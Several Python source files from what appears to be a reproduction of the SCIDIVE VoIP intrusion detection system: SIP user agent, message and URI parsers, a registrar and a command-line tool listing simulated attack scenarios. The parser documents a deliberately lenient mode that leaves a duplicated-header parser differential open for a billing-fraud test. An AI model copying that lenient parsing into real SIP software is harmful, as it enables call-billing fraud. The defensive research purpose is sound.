        if self.on_call_ended is not None:
            self.on_call_ended(dialog, False)

    def reinvite(
        self,
        dialog: Dialog,
        new_offer: SessionDescription,
        on_done: Callable[[int], None] | None = None,
    ) -> None:
        """Send a re-INVITE (e.g. after moving to a new IP — mobility)."""
        request = self._in_dialog_request(dialog, METHOD_INVITE)
        request._set_body(new_offer.encode(), "application/sdp")
        dialog.local_media = new_offer.audio_endpoint()

        def handle(response: SipResponse, now: float) -> None:
            if response.status == STATUS_OK:
                answer = _parse_sdp_body(response)
                if answer is not None:
                    try:
                        dialog.remote_media = answer.audio_endpoint()
                    except SdpError:
                        pass
                self._send_ack(dialog)
            if on_done is not None:
                on_done(response.status)

        self.txn.send_request(request, resolve_uri(dialog.remote_target), handle)

    # -- instant messaging ---------------------------------------------------------

    def message(
        self,
        target: SipUri,
        text: str,
        on_result: Callable[[int], None] | None = None,
    ) -> None:
        """Send a SIP MESSAGE (instant message) out of dialog."""
        request = self._base_request(
            METHOD_MESSAGE,
            target,
            to_addr=NameAddr(uri=target),
            from_tag=self._new_tag(),
            call_id=self._new_call_id(),
            cseq_number=next(self._cseq_out),
        )
        request.headers.remove("Contact")  # MESSAGE carries no Contact
        request._set_body(text.encode("utf-8"), "text/plain")

        def handle(response: SipResponse, now: float) -> None:
            if on_result is not None:
                on_result(response.status)

        self.txn.send_request(request, self._route_out_of_dialog(target), handle)

    # -- server side -------------------------------------------------------------------

    def _on_request(self, request: SipRequest, src: Endpoint, now: float) -> None:
        if request.method == METHOD_ACK:
            self._handle_ack(request)
            return
        txn = self.txn.server_transaction_for(request)
        if txn is None:  # pragma: no cover - dispatch guarantees otherwise
            return
        handlers = {
            METHOD_INVITE: self._handle_invite,
            METHOD_BYE: self._handle_bye,
            METHOD_MESSAGE: self._handle_message,
            METHOD_CANCEL: self._handle_cancel,
            "OPTIONS": self._handle_options,
        }
        handler = handlers.get(request.method)
        if handler is None:
            txn.respond(self._response_for(request, 501))
            return
        handler(request, src, now, txn)

    def _response_for(self, request: SipRequest, status: int, to_tag: str | None = None) -> SipResponse:
        response = SipResponse(status=status)
        for via in request.headers.get_all("Via"):
            response.headers.add("Via", via)
        response.headers.add("From", request.headers.get("From") or "")
        to_value = request.headers.get("To") or ""
        if to_tag and "tag=" not in to_value:
            to_value = str(NameAddr.parse(to_value).with_tag(to_tag))
        response.headers.add("To", to_value)
        response.headers.add("Call-ID", request.headers.get("Call-ID") or "")
        response.headers.add("CSeq", request.headers.get("CSeq") or "")
        response.headers.set("Content-Length", "0")
        return response

    def _handle_invite(self, request: SipRequest, src: Endpoint, now: float, txn) -> None:
        existing = self.dialogs.find_for_request(request)
        if existing is not None:
            self._handle_reinvite(existing, request, txn)
            return
        local_tag = self._new_tag()
        offer = _parse_sdp_body(request)
        contact = request.contact
        dialog = Dialog(
            call_id=request.call_id,
            local_tag=local_tag,
            remote_tag=request.from_addr.tag or "",
            local_uri=self.config.aor,
            remote_uri=request.from_addr.uri,
            remote_target=contact.uri if contact is not None else request.from_addr.uri,
            is_uac=False,
            remote_seq=request.cseq.number,
        )
        if offer is not None:
            try:
                dialog.remote_media = offer.audio_endpoint()
            except SdpError:
                pass
        self.dialogs.add(dialog)
        self._pending_invites_in[request.call_id] = (request, txn, dialog)
        if self.on_incoming_call is not None:
            self.on_incoming_call(dialog, offer)
        if not self.config.auto_answer:
            txn.respond(self._response_for(request, STATUS_RINGING, to_tag=local_tag))
            return
        txn.respond(self._response_for(request, STATUS_RINGING, to_tag=local_tag))

        def answer() -> None:
            if dialog.state == DialogState.TERMINATED:
                return
            answer_sdp = self.answer_sdp_factory(dialog, offer)
            ok = self._response_for(request, STATUS_OK, to_tag=local_tag)
            ok.headers.add("Contact", f"<{self.contact_uri}>")
            if answer_sdp is not None:
                ok._set_body(answer_sdp.encode(), "application/sdp")
                dialog.local_media = answer_sdp.audio_endpoint()
            self._pending_acks[dialog.key] = txn
            self._pending_invites_in.pop(dialog.call_id, None)
            txn.respond(ok)

        self.loop.call_later(self.config.answer_delay, answer)

    def _handle_reinvite(self, dialog: Dialog, request: SipRequest, txn) -> None:
        if not dialog.accepts_remote_seq(request.cseq.number):
            txn.respond(self._response_for(request, 500))
            return
        offer = _parse_sdp_body(request)
        if offer is not None:
            try:
                dialog.remote_media = offer.audio_endpoint()
            except SdpError:
                pass
        contact = request.contact
        if contact is not None:
            dialog.remote_target = contact.uri
        answer_sdp = self.answer_sdp_factory(dialog, offer)
        ok = self._response_for(request, STATUS_OK)
        ok.headers.add("Contact", f"<{self.contact_uri}>")
        if answer_sdp is not None:
            ok._set_body(answer_sdp.encode(), "application/sdp")
        txn.respond(ok)
        if self.on_reinvite is not None:
            self.on_reinvite(dialog, offer)

    def _handle_ack(self, request: SipRequest) -> None:
        dialog = self.dialogs.find_for_request(request)
        if dialog is None:
            return
        # Stop any 200-retransmission loop awaiting this ACK.
        txn = self._pending_acks.pop(dialog.key, None)
        if txn is not None:
            txn.handle_ack()
        if dialog.state == DialogState.EARLY:
            dialog.confirm()
            if self.on_call_established is not None:
                self.on_call_established(dialog, None)

    def _handle_bye(self, request: SipRequest, src: Endpoint, now: float, txn) -> None:
        dialog = self.dialogs.find_for_request(request)
        if dialog is None:
            txn.respond(self._response_for(request, 481))
            return
        if not dialog.accepts_remote_seq(request.cseq.number):
            txn.respond(self._response_for(request, 500))
            return
        txn.respond(self._response_for(request, STATUS_OK))
        dialog.terminate()
        self.dialogs.remove(dialog)
        if self.on_call_ended is not None:
            self.on_call_ended(dialog, True)

    def _handle_cancel(self, request: SipRequest, src: Endpoint, now: float, txn) -> None:
        txn.respond(self._response_for(request, STATUS_OK))
        pending = self._pending_invites_in.pop(request.call_id, None)
        if pending is None:
            return  # nothing ringing: CANCEL after the fact is a no-op
        invite, invite_txn, dialog = pending
        dialog.terminate()
        self.dialogs.remove(dialog)
        terminated = self._response_for(
            invite, STATUS_REQUEST_TERMINATED, to_tag=dialog.local_tag
        )
        invite_txn.respond(terminated)
        if self.on_call_ended is not None:
            self.on_call_ended(dialog, True)

    def _handle_options(self, request: SipRequest, src: Endpoint, now: float, txn) -> None:
        """OPTIONS capability query (RFC 3261 §11): advertise our methods."""
        response = self._response_for(request, STATUS_OK, to_tag=self._new_tag())
        response.headers.add(
            "Allow", "INVITE, ACK, BYE, CANCEL, OPTIONS, MESSAGE, REGISTER"
        )
        response.headers.add("Accept", "application/sdp, text/plain")
        txn.respond(response)

    def _handle_message(self, request: SipRequest, src: Endpoint, now: float, txn) -> None:
        txn.respond(self._response_for(request, STATUS_OK, to_tag=self._new_tag()))
        if self.on_message is not None:
            text = request.body.decode("utf-8", errors="replace")
            self.on_message(request.from_addr, text, src, now)


def _parse_sdp_body(message: SipRequest | SipResponse) -> SessionDescription | None:
    content_type = message.headers.get("Content-Type") or ""
    if "application/sdp" not in content_type.lower() or not message.body:
        return None
    try:
        return SessionDescription.parse(message.body)
    except SdpError:
        return None
