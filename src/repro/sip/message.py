"""SIP message model: requests, responses, parsing and serialisation.

The parser follows RFC 3261 framing: a start line, CRLF-separated header
lines with continuation-line folding, a blank line, then exactly
``Content-Length`` bytes of body.  It is intentionally strict — the
Distiller counts parse failures, and the paper's billing-fraud rule keys
off "an incorrectly formatted SIP message", so malformedness must be
*detected*, not silently repaired.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.sip.constants import ALL_METHODS, SIP_VERSION, reason_phrase
from repro.sip.headers import CSeq, HeaderError, HeaderTable, NameAddr, Via
from repro.sip.uri import SipUri, UriError

CRLF = "\r\n"


class SipParseError(ValueError):
    """Raised when bytes cannot be parsed as a SIP message."""


@dataclass(slots=True)
class SipMessage:
    """Common state of requests and responses."""

    headers: HeaderTable = field(default_factory=HeaderTable)
    body: bytes = b""

    # -- typed header accessors -----------------------------------------

    @property
    def call_id(self) -> str:
        value = self.headers.get("Call-ID")
        if value is None:
            raise HeaderError("message has no Call-ID")
        return value

    @property
    def from_addr(self) -> NameAddr:
        value = self.headers.get("From")
        if value is None:
            raise HeaderError("message has no From header")
        return NameAddr.parse(value)

    @property
    def to_addr(self) -> NameAddr:
        value = self.headers.get("To")
        if value is None:
            raise HeaderError("message has no To header")
        return NameAddr.parse(value)

    @property
    def cseq(self) -> CSeq:
        value = self.headers.get("CSeq")
        if value is None:
            raise HeaderError("message has no CSeq header")
        return CSeq.parse(value)

    @property
    def vias(self) -> list[Via]:
        return [Via.parse(v) for v in self.headers.get_all("Via")]

    @property
    def top_via(self) -> Via:
        vias = self.headers.get_all("Via")
        if not vias:
            raise HeaderError("message has no Via header")
        return Via.parse(vias[0])

    @property
    def contact(self) -> NameAddr | None:
        value = self.headers.get("Contact")
        return NameAddr.parse(value) if value is not None else None

    def dialog_id(self) -> tuple[str, str | None, str | None]:
        """(Call-ID, from-tag, to-tag) — the RFC 3261 dialog key.

        Note this is *directional*: the UAS sees from/to swapped relative
        to the UAC.  :mod:`repro.core.trail` normalises direction when
        correlating both halves of a dialog.
        """
        return (self.call_id, self.from_addr.tag, self.to_addr.tag)

    def _set_body(self, body: bytes, content_type: str | None) -> None:
        self.body = body
        self.headers.set("Content-Length", str(len(body)))
        if content_type:
            self.headers.set("Content-Type", content_type)


@dataclass(slots=True)
class SipRequest(SipMessage):
    """A SIP request."""

    method: str = "OPTIONS"
    uri: SipUri = field(default_factory=lambda: SipUri.parse("sip:invalid@invalid"))

    def start_line(self) -> str:
        return f"{self.method} {self.uri} {SIP_VERSION}"

    def encode(self) -> bytes:
        if "Content-Length" not in self.headers:
            self.headers.set("Content-Length", str(len(self.body)))
        lines = [self.start_line()]
        lines.extend(f"{name}: {value}" for name, value in self.headers.items())
        return (CRLF.join(lines) + CRLF + CRLF).encode("utf-8") + self.body

    @property
    def is_request(self) -> bool:
        return True


@dataclass(slots=True)
class SipResponse(SipMessage):
    """A SIP response."""

    status: int = 200
    reason: str = ""

    def __post_init__(self) -> None:
        if not self.reason:
            self.reason = reason_phrase(self.status)

    def start_line(self) -> str:
        return f"{SIP_VERSION} {self.status} {self.reason}"

    def encode(self) -> bytes:
        if "Content-Length" not in self.headers:
            self.headers.set("Content-Length", str(len(self.body)))
        lines = [self.start_line()]
        lines.extend(f"{name}: {value}" for name, value in self.headers.items())
        return (CRLF.join(lines) + CRLF + CRLF).encode("utf-8") + self.body

    @property
    def is_request(self) -> bool:
        return False

    @property
    def status_class(self) -> int:
        """1 for 1xx, 2 for 2xx, ... — rules match on classes like '4XX'."""
        return self.status // 100


# Headers that must appear at most once (RFC 3261 §20); duplicating them
# is the classic parser-differential exploit the billing-fraud scenario
# uses, so the strict parser rejects them outright.
_SINGLETON_HEADERS = frozenset({"From", "To", "Call-ID", "CSeq", "Max-Forwards", "Content-Length"})


def parse_message(raw: bytes, strict: bool = True) -> SipRequest | SipResponse:
    """Parse wire bytes into a request or response.

    Raises :class:`SipParseError` on any framing or start-line problem.
    Header *values* are kept as raw strings; typed accessors parse them
    lazily so one bad header does not poison the whole message (the IDS
    wants to look at the rest).

    ``strict=True`` (the IDS posture) additionally rejects duplicated
    singleton headers and space-before-colon header names.  Vulnerable
    software — the testbed's billing-enabled proxy — parses with
    ``strict=False`` and silently accepts such messages, creating the
    parser differential the billing-fraud attack exploits.
    """
    try:
        head, sep, body = raw.partition(b"\r\n\r\n")
        if not sep:
            # Tolerate bare-LF framing (some ancient clients) but only
            # when the whole head uses it consistently.
            head, sep, body = raw.partition(b"\n\n")
            if not sep:
                raise SipParseError("no end-of-headers marker")
        text = head.decode("utf-8")
    except UnicodeDecodeError as exc:
        raise SipParseError(f"non-UTF8 header block: {exc}") from exc

    lines = text.replace("\r\n", "\n").split("\n")
    if not lines or not lines[0].strip():
        raise SipParseError("empty start line")

    # Unfold continuation lines (whitespace-prefixed lines join previous).
    unfolded: list[str] = [lines[0]]
    for line in lines[1:]:
        if line[:1] in (" ", "\t"):
            if len(unfolded) == 1:
                raise SipParseError("continuation line before any header")
            unfolded[-1] += " " + line.strip()
        else:
            unfolded.append(line)

    message = _parse_start_line(unfolded[0])
    for line in unfolded[1:]:
        if not line.strip():
            continue
        name, colon, value = line.partition(":")
        if not colon or not name.strip():
            raise SipParseError(f"malformed header line: {line!r}")
        if strict and name != name.rstrip():
            # Space before the colon is illegal per RFC 3261 7.3.1.
            raise SipParseError(f"whitespace before colon: {line!r}")
        message.headers.add(name.strip(), value)

    if strict:
        for singleton in _SINGLETON_HEADERS:
            if len(message.headers.get_all(singleton)) > 1:
                raise SipParseError(f"duplicated singleton header: {singleton}")

    declared = message.headers.get("Content-Length")
    if declared is not None:
        if not declared.strip().isdigit():
            raise SipParseError(f"bad Content-Length: {declared!r}")
        length = int(declared)
        if length > len(body):
            raise SipParseError(
                f"Content-Length {length} exceeds available body {len(body)}"
            )
        message.body = body[:length]
    else:
        message.body = body
    return message


def _parse_start_line(line: str) -> SipRequest | SipResponse:
    parts = line.split(" ", 2)
    if len(parts) != 3:
        raise SipParseError(f"malformed start line: {line!r}")
    if parts[0] == SIP_VERSION:
        status_text, reason = parts[1], parts[2]
        if not status_text.isdigit() or len(status_text) != 3:
            raise SipParseError(f"bad status code: {line!r}")
        return SipResponse(status=int(status_text), reason=reason)
    method, uri_text, version = parts
    if version != SIP_VERSION:
        raise SipParseError(f"unsupported SIP version: {version!r}")
    if not method.isupper() or not method.isalpha():
        raise SipParseError(f"malformed method: {method!r}")
    try:
        uri = SipUri.parse(uri_text)
    except UriError as exc:
        raise SipParseError(f"bad request URI: {uri_text!r}") from exc
    request = SipRequest(method=method, uri=uri)
    if method not in ALL_METHODS:
        # Unknown-but-well-formed methods parse fine; the stack replies 501.
        pass
    return request


def looks_like_sip(payload: bytes) -> bool:
    """Cheap sniff used by the Distiller's protocol classifier."""
    if payload.startswith(b"SIP/2.0 "):
        return True
    head = payload.split(b"\r\n", 1)[0].split(b"\n", 1)[0]
    return head.endswith(b" SIP/2.0")
