"""SIP URI parsing and serialisation (the subset of RFC 3261 we need).

Grammar handled::

    sip:user@host[:port][;param[=value]]*[?header=value[&...]]

``sips:`` is accepted and preserved, URI parameters and headers are
kept in insertion order.  Comparison follows the loose matching the IDS
needs: :meth:`SipUri.address_of_record` strips everything except
``user@host`` so forged requests with cosmetic parameter differences
still correlate with the right session.
"""

from __future__ import annotations

from dataclasses import dataclass, field


class UriError(ValueError):
    """Raised when a SIP URI cannot be parsed."""


@dataclass(frozen=True, slots=True)
class SipUri:
    """An immutable SIP/SIPS URI."""

    user: str
    host: str
    port: int | None = None
    scheme: str = "sip"
    params: tuple[tuple[str, str | None], ...] = field(default=())
    headers: tuple[tuple[str, str], ...] = field(default=())

    @classmethod
    def parse(cls, text: str) -> "SipUri":
        text = text.strip()
        if text.startswith("<") and text.endswith(">"):
            text = text[1:-1]
        scheme, sep, rest = text.partition(":")
        scheme = scheme.lower()
        if not sep or scheme not in ("sip", "sips"):
            raise UriError(f"not a SIP URI: {text!r}")
        # Split off ?headers then ;params then user@host:port.
        rest, _, header_part = rest.partition("?")
        rest, _, param_part = rest.partition(";")
        user = ""
        hostport = rest
        if "@" in rest:
            user, _, hostport = rest.rpartition("@")
        if not hostport:
            raise UriError(f"SIP URI missing host: {text!r}")
        host = hostport
        port: int | None = None
        if ":" in hostport:
            host, _, port_text = hostport.rpartition(":")
            if not port_text.isdigit():
                raise UriError(f"bad port in SIP URI: {text!r}")
            port = int(port_text)
            if not 0 < port <= 0xFFFF:
                raise UriError(f"port out of range in SIP URI: {text!r}")
        params: list[tuple[str, str | None]] = []
        if param_part:
            for chunk in param_part.split(";"):
                if not chunk:
                    continue
                name, eq, value = chunk.partition("=")
                params.append((name.lower(), value if eq else None))
        headers: list[tuple[str, str]] = []
        if header_part:
            for chunk in header_part.split("&"):
                if not chunk:
                    continue
                name, _, value = chunk.partition("=")
                headers.append((name, value))
        return cls(
            user=user,
            host=host.lower(),
            port=port,
            scheme=scheme,
            params=tuple(params),
            headers=tuple(headers),
        )

    def __str__(self) -> str:
        out = f"{self.scheme}:"
        if self.user:
            out += f"{self.user}@"
        out += self.host
        if self.port is not None:
            out += f":{self.port}"
        for name, value in self.params:
            out += f";{name}" if value is None else f";{name}={value}"
        if self.headers:
            out += "?" + "&".join(f"{n}={v}" for n, v in self.headers)
        return out

    # -- matching helpers used by the IDS --------------------------------

    @property
    def address_of_record(self) -> str:
        """``user@host`` with ports/params stripped — the stable identity."""
        return f"{self.user}@{self.host}" if self.user else self.host

    def param(self, name: str) -> str | None:
        for key, value in self.params:
            if key == name.lower():
                return value
        return None

    def with_param(self, name: str, value: str | None) -> "SipUri":
        params = tuple(p for p in self.params if p[0] != name.lower()) + ((name.lower(), value),)
        return SipUri(
            user=self.user,
            host=self.host,
            port=self.port,
            scheme=self.scheme,
            params=params,
            headers=self.headers,
        )
