"""SIP registrar: the location service behind the proxy.

Maintains the AoR → Contact binding table that the proxy consults when
routing out-of-dialog requests, and (optionally) enforces digest
authentication — the substrate the Section 3.3 REGISTER-DoS and
password-guessing scenarios run against.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.sip import auth as sip_auth
from repro.sip.constants import METHOD_REGISTER, STATUS_OK, STATUS_UNAUTHORIZED
from repro.sip.headers import HeaderError
from repro.sip.message import SipRequest
from repro.sip.uri import SipUri

DEFAULT_EXPIRES = 3600.0


@dataclass(slots=True)
class Binding:
    """One registered contact for an address of record."""

    contact: SipUri
    expires_at: float
    registered_at: float


@dataclass(frozen=True, slots=True)
class RegisterOutcome:
    """What the registrar decided about one REGISTER request."""

    status: int
    challenge: sip_auth.DigestChallenge | None = None
    aor: str | None = None
    auth_failed: bool = False


class Registrar:
    """Binding table + authentication policy."""

    def __init__(
        self,
        realm: str,
        require_auth: bool = False,
        rng: random.Random | None = None,
    ) -> None:
        self.realm = realm
        self.require_auth = require_auth
        self.rng = rng if rng is not None else random.Random(0)
        self._bindings: dict[str, Binding] = {}  # keyed by AoR "user@host"
        self._passwords: dict[str, str] = {}  # username -> password
        self._nonces: dict[str, str] = {}  # username -> outstanding nonce
        self.registrations = 0
        self.auth_failures = 0
        self.challenges_issued = 0

    def add_user(self, username: str, password: str) -> None:
        self._passwords[username] = password

    # -- request processing ------------------------------------------------

    def process(self, request: SipRequest, now: float) -> RegisterOutcome:
        """Apply one REGISTER; returns what response the proxy should send."""
        if request.method != METHOD_REGISTER:
            raise ValueError(f"registrar got non-REGISTER: {request.method}")
        try:
            aor = request.to_addr.uri.address_of_record
            username = request.to_addr.uri.user
        except HeaderError:
            return RegisterOutcome(status=400)

        if self.require_auth:
            verdict = self._check_auth(request, username)
            if verdict is not None:
                return verdict

        contact = request.contact
        expires_text = request.headers.get("Expires", str(int(DEFAULT_EXPIRES)))
        expires = float(expires_text) if expires_text and expires_text.isdigit() else DEFAULT_EXPIRES
        if expires <= 0:
            self._bindings.pop(aor, None)
            return RegisterOutcome(status=STATUS_OK, aor=aor)
        if contact is None:
            return RegisterOutcome(status=400)
        self._bindings[aor] = Binding(
            contact=contact.uri, expires_at=now + expires, registered_at=now
        )
        self.registrations += 1
        return RegisterOutcome(status=STATUS_OK, aor=aor)

    def _check_auth(self, request: SipRequest, username: str) -> RegisterOutcome | None:
        """Returns a 401 outcome when auth fails, None when it passes."""
        header = request.headers.get("Authorization")
        if header is None:
            return self._challenge(username)
        try:
            creds = sip_auth.DigestCredentials.parse(header)
        except sip_auth.AuthError:
            self.auth_failures += 1
            return self._challenge(username, failed=True)
        password = self._passwords.get(creds.username)
        expected_nonce = self._nonces.get(creds.username)
        if password is None or not sip_auth.verify_credentials(
            creds, password, METHOD_REGISTER, expected_nonce
        ):
            self.auth_failures += 1
            return self._challenge(username, failed=True)
        self._nonces.pop(creds.username, None)  # nonce is single-use
        return None

    def _challenge(self, username: str, failed: bool = False) -> RegisterOutcome:
        nonce = sip_auth.generate_nonce(self.rng)
        self._nonces[username] = nonce
        self.challenges_issued += 1
        return RegisterOutcome(
            status=STATUS_UNAUTHORIZED,
            challenge=sip_auth.DigestChallenge(realm=self.realm, nonce=nonce),
            auth_failed=failed,
        )

    # -- lookups --------------------------------------------------------------

    def lookup(self, aor: str, now: float) -> SipUri | None:
        """Resolve an AoR to its current contact, expiring stale bindings."""
        binding = self._bindings.get(aor)
        if binding is None:
            return None
        if binding.expires_at <= now:
            del self._bindings[aor]
            return None
        return binding.contact

    @property
    def binding_count(self) -> int:
        return len(self._bindings)

    def bindings(self) -> dict[str, Binding]:
        return dict(self._bindings)
