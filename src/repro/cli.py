"""Command-line interface: run scenarios, replay captures, print Table 1.

Usage::

    python -m repro scenario bye-attack [--seed 7] [--pcap out.pcap] [--json alerts.jsonl]
                                        [--workers 4] [--batch-size 64]
                                        [--metrics-out m.txt] [--trace-out t.jsonl]
    python -m repro replay capture.pcap [--vantage 10.0.0.10] [--json alerts.jsonl]
                                        [--workers 4] [--cluster-backend process]
                                        [--metrics-out m.txt] [--trace-out t.jsonl]
    python -m repro bench-shards [--workers 1 2 4 8] [--json BENCH_shards.json]
    python -m repro stats bye-attack [--seed 7] [--format table|prom|json]
    python -m repro table1 [--seed 7]
    python -m repro modules
    python -m repro list

``scenario`` drives the full simulated testbed (attack or benign),
``replay`` runs the IDS offline over a standard pcap (``--broadcast``
disables indexed dispatch for A/B comparison), ``stats`` runs a
scenario with full observability and prints the per-stage/per-rule
report, ``table1`` regenerates the paper's attack matrix, ``modules``
lists the registered protocol modules with their generators and rules.
``bench-shards`` sweeps the session-sharded cluster across worker
counts.  ``--workers N`` (scenario/replay) shards the replay across N
worker engines by session affinity (see :mod:`repro.cluster`);
``--metrics-out`` writes Prometheus-text metrics, ``--trace-out``
writes a JSON-lines span trace; ``--log-level`` turns on structured
logging for any command.
"""

from __future__ import annotations

import argparse
import sys
from typing import Callable, Sequence

from repro import obs
from repro.core.export import write_alerts_jsonl
from repro.experiments.harness import (
    BENIGN_KINDS,
    ExperimentResult,
    run_benign,
    run_billing_fraud,
    run_bye_attack,
    run_call_hijack,
    run_fake_im,
    run_password_guess,
    run_register_dos,
    run_rtcp_bye_attack,
    run_rtp_attack,
    run_ssrc_spoof,
)
from repro.experiments.report import format_stage_summary, format_table

ATTACK_SCENARIOS: dict[str, Callable[..., ExperimentResult]] = {
    "bye-attack": run_bye_attack,
    "call-hijack": run_call_hijack,
    "fake-im": run_fake_im,
    "rtp-attack": run_rtp_attack,
    "register-dos": run_register_dos,
    "password-guess": run_password_guess,
    "billing-fraud": run_billing_fraud,
    "rtcp-bye": run_rtcp_bye_attack,
    "ssrc-spoof": run_ssrc_spoof,
}


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description="SCIDIVE reproduction command line"
    )
    parser.add_argument(
        "--log-level", default=None,
        choices=["DEBUG", "INFO", "WARNING", "ERROR"],
        help="enable structured logging at this level",
    )
    parser.add_argument(
        "--log-json", action="store_true",
        help="emit log records as JSON lines instead of key=value text",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scenario = sub.add_parser("scenario", help="run an attack or benign scenario")
    scenario.add_argument("name", help="scenario name (see `repro list`)")
    scenario.add_argument("--seed", type=int, default=7)
    scenario.add_argument("--pcap", help="write the tap capture to this pcap file")
    scenario.add_argument("--json", help="write alerts to this JSON-lines file")
    _add_cluster_flags(scenario)
    _add_obs_flags(scenario)

    replay = sub.add_parser("replay", help="replay a pcap through the IDS")
    replay.add_argument("pcap", help="pcap file (LINKTYPE_ETHERNET)")
    replay.add_argument("--vantage", default=None,
                        help="protected endpoint IP (default: network-wide)")
    replay.add_argument("--json", help="write alerts to this JSON-lines file")
    replay.add_argument("--broadcast", action="store_true",
                        help="disable indexed dispatch (reference fan-out mode)")
    _add_cluster_flags(replay)
    _add_obs_flags(replay)

    bench = sub.add_parser(
        "bench-shards",
        help="sweep the session-sharded cluster across worker counts",
    )
    bench.add_argument("--workers", type=int, nargs="+", default=[1, 2, 4, 8],
                       help="worker counts to sweep")
    bench.add_argument("--cluster-backend", default="process",
                       choices=["process", "threads", "serial"],
                       help="worker transport (default: process)")
    bench.add_argument("--batch-size", type=int, default=64)
    bench.add_argument("--sessions", type=int, default=96,
                       help="distinct synthetic media sessions in the workload")
    bench.add_argument("--packets", type=int, default=40,
                       help="RTP packets per media session")
    bench.add_argument("--seed", type=int, default=33)
    bench.add_argument("--json", help="write the sweep report to this JSON file")

    stats = sub.add_parser(
        "stats", help="run a scenario with full observability and report"
    )
    stats.add_argument("name", help="scenario name (see `repro list`)")
    stats.add_argument("--seed", type=int, default=7)
    stats.add_argument("--format", choices=["table", "prom", "json"], default="table",
                       help="report format: human tables, Prometheus text, or JSON")
    _add_obs_flags(stats)

    table1 = sub.add_parser("table1", help="regenerate the paper's Table 1")
    table1.add_argument("--seed", type=int, default=7)

    sub.add_parser("modules", help="list registered protocol modules")
    sub.add_parser("list", help="list available scenarios")
    return parser


def _add_obs_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--metrics-out",
                        help="write Prometheus-text metrics to this file")
    parser.add_argument("--trace-out",
                        help="write the per-frame span trace to this JSON-lines file")


def _add_cluster_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--workers", type=int, default=1,
                        help="shard the replay across N worker engines (default 1: "
                             "single engine)")
    parser.add_argument("--batch-size", type=int, default=64,
                        help="frames per worker batch (with --workers > 1)")
    parser.add_argument("--cluster-backend", default="process",
                        choices=["process", "threads", "serial"],
                        help="worker transport (with --workers > 1)")


def _cluster_replay(trace, args: argparse.Namespace, vantage: str | None):
    """Replay a trace through a ScidiveCluster; print the merged view."""
    from repro.cluster import ScidiveCluster

    cluster = ScidiveCluster(
        workers=args.workers,
        backend=args.cluster_backend,
        batch_size=args.batch_size,
        vantage_ip=vantage,
        metrics_enabled=bool(getattr(args, "metrics_out", None)),
    )
    result = cluster.process_trace(trace)
    stats = result.stats
    print(f"cluster replay ({args.workers} workers, {args.cluster_backend}): "
          f"{result.cluster.frames_in} frames in, "
          f"{stats.footprints} footprints, {stats.events} events, "
          f"{len(result.alerts)} alerts, "
          f"{result.cluster.batches_submitted} batches, "
          f"{result.cluster.worker_restarts} restarts")
    return result


def _print_alerts(result_alerts) -> None:
    if not result_alerts:
        print("no alerts")
        return
    rows = [
        [f"{a.time:9.4f}", a.rule_id, a.severity.name, a.session or "-", a.message]
        for a in result_alerts
    ]
    print(format_table(["t (s)", "rule", "severity", "session", "message"], rows))


def _run_scenario(name: str, seed: int) -> ExperimentResult | None:
    if name in ATTACK_SCENARIOS:
        return ATTACK_SCENARIOS[name](seed=seed)
    if name.removeprefix("benign-") in BENIGN_KINDS:
        return run_benign(name.removeprefix("benign-"), seed=seed)
    return None


def _export_observability(ctx: obs.Observability | None, args: argparse.Namespace) -> None:
    if ctx is None:
        return
    if args.metrics_out:
        ctx.registry.write_prometheus(args.metrics_out)
        print(f"metrics written to {args.metrics_out}")
    if args.trace_out and ctx.tracer is not None:
        count = ctx.tracer.write_jsonl(args.trace_out)
        print(f"{count} spans written to {args.trace_out}")


def _cmd_scenario(args: argparse.Namespace) -> int:
    want_obs = bool(args.metrics_out or args.trace_out) and args.workers <= 1
    ctx = obs.enable(trace=bool(args.trace_out)) if want_obs else None
    try:
        result = _run_scenario(args.name, args.seed)
    finally:
        obs.disable()
    if result is None:
        print(f"unknown scenario {args.name!r}; try `repro list`", file=sys.stderr)
        return 2
    print(f"scenario {args.name}: {result.engine.stats.frames} frames, "
          f"{result.engine.stats.footprints} footprints, "
          f"{result.engine.stats.events} events")
    if args.workers > 1:
        from collections import Counter

        cluster_result = _cluster_replay(
            result.testbed.ids_tap.trace, args, result.engine.vantage_ip
        )
        _print_alerts(cluster_result.alerts)
        same = Counter(cluster_result.alerts) == Counter(result.alerts)
        print("cluster alerts match the single-engine run"
              if same else "WARNING: cluster alerts DIFFER from the single-engine run")
        alerts = cluster_result.alerts
        if args.metrics_out and cluster_result.registry is not None:
            cluster_result.registry.write_prometheus(args.metrics_out)
            print(f"merged cluster metrics written to {args.metrics_out}")
    else:
        _print_alerts(result.alerts)
        alerts = result.alerts
    if args.pcap:
        from repro.net.pcap import write_pcap

        write_pcap(args.pcap, result.testbed.ids_tap.trace)
        print(f"capture written to {args.pcap}")
    if args.json:
        count = write_alerts_jsonl(args.json, alerts)
        print(f"{count} alerts written to {args.json}")
    _export_observability(ctx, args)
    return 0


def _cmd_replay(args: argparse.Namespace) -> int:
    from repro.core.engine import ScidiveEngine
    from repro.net.pcap import read_pcap

    trace = read_pcap(args.pcap)
    if args.workers > 1:
        cluster_result = _cluster_replay(trace, args, args.vantage)
        _print_alerts(cluster_result.alerts)
        if args.json:
            count = write_alerts_jsonl(args.json, cluster_result.alerts)
            print(f"{count} alerts written to {args.json}")
        if args.metrics_out and cluster_result.registry is not None:
            cluster_result.registry.write_prometheus(args.metrics_out)
            print(f"merged cluster metrics written to {args.metrics_out}")
        return 0
    want_obs = bool(args.metrics_out or args.trace_out)
    ctx = obs.Observability.create(trace=bool(args.trace_out)) if want_obs else None
    engine = ScidiveEngine(vantage_ip=args.vantage, observability=ctx,
                           indexed_dispatch=not args.broadcast)
    engine.process_trace(trace)
    mode = "broadcast" if args.broadcast else "indexed"
    print(f"replayed {len(trace)} frames ({mode} dispatch): "
          f"{engine.stats.footprints} footprints, "
          f"{engine.stats.events} events, {len(engine.alerts)} alerts")
    _print_alerts(engine.alerts)
    if args.json:
        count = write_alerts_jsonl(args.json, engine.alerts)
        print(f"{count} alerts written to {args.json}")
    _export_observability(ctx, args)
    return 0


def _cmd_stats(args: argparse.Namespace) -> int:
    """Run one scenario fully instrumented and print the metrics report."""
    ctx = obs.enable(trace=True)
    try:
        result = _run_scenario(args.name, args.seed)
    finally:
        obs.disable()
    if result is None:
